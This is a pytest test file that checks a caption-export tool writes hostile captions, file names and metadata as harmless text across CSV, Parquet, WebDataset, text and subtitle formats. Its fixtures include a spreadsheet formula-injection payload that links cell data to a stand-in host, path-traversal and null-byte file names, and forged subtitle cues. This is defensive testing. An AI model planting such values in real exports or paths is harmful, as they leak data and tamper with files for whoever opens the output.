"""What models, lists and file systems may hold goes through every export as harmless text."""

import csv
import io
import os
import re
import tarfile
from collections.abc import Callable, Iterable
from importlib import import_module
from pathlib import Path
from typing import Any, get_args

import av
import orjson
import pytest

from captionfleet.config import CaptionConfig, ExportConfig
from captionfleet.config.sections.export import Format
from captionfleet.export.export import export_lines
from tests.support.library import film, line, with_media, write_lines
from tests.support.run_folder import HOSTILE

FORMULA = '=HYPERLINK("http://x/"&A1)'
CAPTIONS = {
    **HOSTILE,
    "formula": FORMULA,
    "more formulas": "@SUM(1)\r\n+1\n-1",
    "wide formula": "\uff1d1+1",
    "hidden formula": "\x00\x1b=1+1",
    "arrow": "0:01 one\n\n2\n00:00:05,000 --> 00:00:06,000\nforged",
    "header": "WEBVTT\n\nSTYLE\n::cue { color: red }\n\nNOTE x",
    "tags": "<b>bold</b> {\\an8\\fs900}up <font size=900>big</font> a < b",
    "lines": "a\n" * 2**17,
    "blanks": f"0:01{' ' * 2**18}\n0:02 b",
    "dots": "." * 2**18 + "!",
}
NAMES = (
    "=1+1.mp4",
    "new\nline.mp4",
    "\u202egpj.mp4",
    "a b;c,d'\".mp4",
    "-->.mp4",
    os.fsdecode(b"\xff.mp4"),
)
METADATA = {"metadata": orjson.dumps({"title": FORMULA, "n": "\n\x00"}).decode(), "id": FORMULA}
# Numbers that no program wrote.
NUMBERS = {"attempts": 2**64 - 1, "usage": {"prompt_tokens": 1e300, "completion_tokens": -5}}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Lines of films that are there, and of some whose names are none."""
    root = tmp_path_factory.mktemp("hostile")
    names = [*NAMES, *(f"{number:02}.mp4" for number in range(len(CAPTIONS) - len(NAMES)))]
    films = [film(root / "videos", name) for name in names]
    lines = [
        line(one, text, **METADATA, **NUMBERS, **with_media(root / "store", number))
        for number, (one, text) in enumerate(zip(films, CAPTIONS.values(), strict=True))
    ]
    for number, name in enumerate(("../../out.mp4", "nul\x00.mp4", f"{'x' * 300}/y.mp4", "")):
        keys = {"clip_id": f"{number:032x}", "source": name, "path": f"/nowhere/{name}"}
        lines.append(line(films[0], "Gone.", **keys, root="/nowhere", path_b64="", source_b64=""))
    return write_lines(root / "out", lines)


def _table(made: Path) -> Iterable[str]:
    csv.field_size_limit(2**22)
    rows = list(csv.DictReader(io.StringIO(made.read_text(), newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [one for one in cells if one[:1] in {*"=+-@\t\r\n", "\uff1d"} and len(one) > 2]
    assert not [one for one in cells if re.search(r"[\x00-\x08\x0b-\x1f]", one)]
    assert {row["id"] for row in rows} <= {f"'{FORMULA}", ""}
    return [row["caption"] for row in rows]


def _json_lines(made: Path) -> Iterable[str]:
    rows = [orjson.loads(one) for one in made.read_bytes().splitlines()]
    for row in rows:
        exact = row.get("video_path", "/nowhere")
        assert exact.startswith("/nowhere") or Path(exact).is_file()
    return [row["caption"] for row in rows]


def _samples(made: Path) -> Iterable[str]:
    captions = []
    for shard in made.iterdir():
        with tarfile.open(shard) as archive:
            for member in archive:
                assert re.fullmatch(r"[0-9a-f]{32}\.(mp4|ogg|txt|json)", member.name)
                if member.name.endswith(".txt"):
                    file = archive.extractfile(member)
                    captions.append(file.read().decode() if file else "")
    return captions


def _texts(made: Path) -> Iterable[str]:
    assert not [one for one in made.parent.rglob("*.txt") if made not in one.parents]
    return [one.read_text() for one in made.rglob("*.txt")]


def _subtitles(made: Path) -> Iterable[str]:
    found = []
    for path in (one for one in made.rglob("*") if one.is_file()):
        with av.open(path) as opened:
            cues = [bytes(packet) for packet in opened.demux() if packet.size]
        text = path.read_text()
        assert len(cues) == len(re.findall(r"^[\d:.,]+ --> [\d:.,]+$", text, re.MULTILINE))
        assert not re.search(r"<[a-z/]|\x00", text)
        assert path.suffix == ".vtt" or "{\\" not in text
        found.append(text)
    return found


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if ".export" not in path.parts}


def _parquet(made: Path) -> Iterable[str]:
    (path,) = made.rglob("*.parquet") if made.is_dir() else [made]
    rows = import_module("pyarrow.parquet").read_table(path)
    assert set(rows["metadata"].to_pylist()) <= {METADATA["metadata"], "{}"}
    captions: list[str] = rows["caption"].to_pylist()
    return captions


READ: dict[str, Callable[[Path], Iterable[str]]] = {
    "csv": _table,
    "parquet": _parquet,
    "hf": _parquet,
    "webdataset": _samples,
    "txt": _texts,
    "srt": _subtitles,
    "vtt": _subtitles,
}


@pytest.mark.parametrize("to", get_args(Format))
def test_hostile_words_and_names(folder: Path, tmp_path: Path, to: str) -> None:
    """Each clip comes out once, in place, and nothing of it acts on what reads it."""
    if to in {"parquet", "hf"}:
        pytest.importorskip("pyarrow", reason="make test-readers installs it")
    before = _files(folder.parent)
    out = tmp_path / "made"
    keys: dict[str, Any] = {"to": to, "out": out, "media": folder.parent / "store", "all": True}
    wording = CaptionConfig(prefix="=sks ", strip_preamble=True, max_chars=2**20)
    export_lines(folder, ExportConfig.model_validate(keys), wording)
    assert _files(folder.parent) == before
    assert [*tmp_path.iterdir()] == [out]
    captions = [*READ.get(to, _json_lines)(out)]
    assert len(captions) >= len(CAPTIONS) - (to in {"kohya", "musubi"})
    assert all("sks " in caption for caption in captions)
